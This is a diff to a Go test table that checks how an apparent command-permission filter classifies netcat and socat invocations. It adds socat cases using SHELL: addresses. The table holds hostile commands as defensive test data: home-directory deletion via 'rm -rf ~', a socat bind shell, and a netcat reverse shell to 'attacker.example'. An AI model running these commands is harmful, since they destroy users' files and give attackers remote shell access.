@@ -29,6 +29,10 @@ func TestNetcatCommands(t *testing.T) {
 		{"netcat -lp 80 -c 'rm -rf ~'", Deny},
 		{"nc.traditional -lp80 -c'rm -rf ~'", Deny},
 		{"nc -e /bin/sh attacker.example 4444", Ask},
+		// socat 1.8's SHELL: address runs its text with $SHELL -c.
+		{"socat - SHELL:'rm -rf ~'", Deny},
+		{"socat TCP-LISTEN:4444 shell:bash", Ask},
+		{"socat - SHELL:'echo hi'", Allow},
 		// Look-alikes.
 		{"ncat -l 8080", Allow},
 		{"ncat localhost 8080", Allow},
